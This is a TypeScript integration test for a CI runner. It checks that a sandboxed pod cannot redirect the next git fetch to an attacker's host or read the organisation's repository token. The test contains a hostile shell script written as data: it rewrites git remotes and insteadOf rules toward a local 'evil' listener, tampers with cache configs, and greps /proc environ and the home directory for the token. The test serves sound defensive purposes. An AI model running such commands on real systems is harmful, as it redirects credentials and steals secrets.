/**
 * The repository token stays with the runner (docs/runners.md "Git"), with REAL processes on every
 * database: a repository served over HTTP by `git http-backend` that demands the token, and a
 * second local HTTP listener standing for an attacker's host.
 *
 * Found before the sandbox: a pod rewrote `remote.origin.url` in its checkout (then a worktree of
 * the runner's clone cache), and the runner's next fetch went to the attacker's URL carrying the
 * token. Now a pod's checkout is its own repository: whatever the pod writes into its `.git/config`
 * (another origin, `insteadOf` rewrites, an extra header) changes nothing of what the runner
 * fetches for the next pod, the token reaches only the registered host, and the pod never sees it.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASES, type TestDatabase } from '../helpers/databases.ts';
import { bareRepository, fixtureGit } from '../helpers/git-fixture.ts';
import { basicAuth, gitHttpServer } from '../helpers/git-http.ts';
import { podClient } from '../helpers/pod-client.ts';
import { runnerPath, startRunnerProcess, tempDir, waitFor, type RunnerProcess } from '../helpers/runner-process.ts';
import { createProcessTestDatabase, http as request, startServerProcess, type ServerProcess } from '../helpers/server-process.ts';

const ADMIN_TOKEN = 'drvadm_sandbox_git_admin_token_0123456789abcdefg';
const TOKEN = 'ghp_RepositoryTokenOfTheOrg_5d1e';

async function listen(server: http.Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe.each(DATABASES)('the repository token and a pod’s checkout (%s)', (kind) => {
  let database: TestDatabase;
  let server: ServerProcess;
  let runner: RunnerProcess;
  let scratch: string;
  let apiKey: string;
  let repo: { bare: string; work: string };
  let goodUrl: string;
  let evilUrl: string;
  const good: { url: string; auth: string | undefined }[] = [];
  const evil: { url: string; auth: string | undefined }[] = [];
  const servers: http.Server[] = [];
  const c = podClient(
    () => server.url,
    () => apiKey,
    ADMIN_TOKEN,
  );

  beforeAll(async () => {
    database = await createProcessTestDatabase(kind);
    scratch = tempDir('git-token');
    const served = path.join(scratch, 'served');
    fs.mkdirSync(served);
    repo = bareRepository(served, 'app', { README: 'v1\n' });
    const gitServer = gitHttpServer({ root: () => served, token: TOKEN, onRequest: (req) => good.push({ url: req.url ?? '', auth: req.headers.authorization }) });
    const evilServer = http.createServer((req, res) => {
      evil.push({ url: req.url ?? '', auth: req.headers.authorization });
      res.writeHead(404).end();
    });
    servers.push(gitServer, evilServer);
    goodUrl = `${await listen(gitServer)}/app.git`;
    evilUrl = `${await listen(evilServer)}/evil.git`;

    server = await startServerProcess({
      dataDir: database.dataDir,
      env: { ...database.env, DROVER_ADMIN_TOKEN: ADMIN_TOKEN, DROVER_LOG_LEVEL: 'warn' },
    });
    apiKey = fs.readFileSync(path.join(database.dataDir, 'bootstrap-api-key'), 'utf8').trim();
    runner = await startRunnerProcess({ server: server.url, token: await c.registrationToken(), workDir: path.join(scratch, 'runner'), name: 'git', env: { PATH: runnerPath(), HOME: scratch, LANG: 'C.UTF-8' } });
    await waitFor(async () => (await c.runnerStatus(runner.runnerId)) === 'online', { what: 'the runner online' });
    const created = await request(server.url, 'POST', '/api/v1/admin/orgs/default/repositories', {
      bearer: ADMIN_TOKEN,
      body: { name: 'app', full_name: 'acme/app', provider: 'git', url: goodUrl, default_branch: 'main', token: TOKEN },
    });
    expect(created.status, created.text).toBe(201);
  });

  afterAll(async () => {
    await runner?.stop();
    await server?.stop();
    for (const s of servers) s.close();
    await database?.cleanup();
    if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
  });

  it('a pod that rewrites its checkout’s origin and configuration cannot redirect the next pod’s fetch, nor see the token', async () => {
    const cache = path.join(runner.workDir, 'repos');
    const attack = [
      'echo "origin=$(git remote get-url origin)"',
      `git config remote.origin.url ${evilUrl}`,
      `printf '[url "${evilUrl.replace(/evil\.git$/, '')}"]\\n\\tinsteadOf = ${goodUrl.replace(/app\.git$/, '')}\\n[http]\\n\\textraHeader = X-Planted: 1\\n' >> .git/config`,
      `for f in ${cache}/*.git/config; do (echo '[remote "origin"]'; echo '  url = ${evilUrl}') >> "$f" 2>/dev/null && echo "LEAK:wrote-cache-config"; done`,
      `grep -rqs '${TOKEN.slice(4)}' "$HOME" .git /proc/[0-9]*/environ && echo "LEAK:token-visible"`,
      `env | grep -q '${TOKEN.slice(4)}' && echo "LEAK:token-variable"`,
      'echo attacked',
    ].join('\n');
    const first = await c.createPod(attack, runner.runnerId, 'REPO app');
    expect(await c.waitStatus(first, ['completed', 'failed'], 30_000)).toMatchObject({ status: 'completed' });
    const attacked = await c.output(first);
    expect(attacked).toContain(`origin=${goodUrl}\n`);
    expect(attacked).toContain('attacked\n');
    expect(attacked).not.toContain('LEAK');
    expect(good.length).toBeGreaterThan(0); // the runner fetched from the registered URL, with the token
    expect(good.every((r) => r.auth === basicAuth(TOKEN))).toBe(true);

    // origin moves on; the next pod of the repository gets it, from the registered host.
    fs.writeFileSync(path.join(repo.work, 'README'), 'v2\n');
    fixtureGit(repo.work, 'commit', '-qam', 'v2');
    fixtureGit(repo.work, 'push', '--quiet', repo.bare, 'main');
    const before = good.length;
    const second = await c.createPod('cat README\necho "origin=$(git remote get-url origin)"', runner.runnerId, 'REPO app');
    expect(await c.waitStatus(second, ['completed', 'failed'], 30_000)).toMatchObject({ status: 'completed' });
    expect(await c.output(second)).toBe(`v2\norigin=${goodUrl}\n`);
    expect(good.length).toBeGreaterThan(before);
    expect(evil).toEqual([]); // nothing ever reached the other host
  });
});
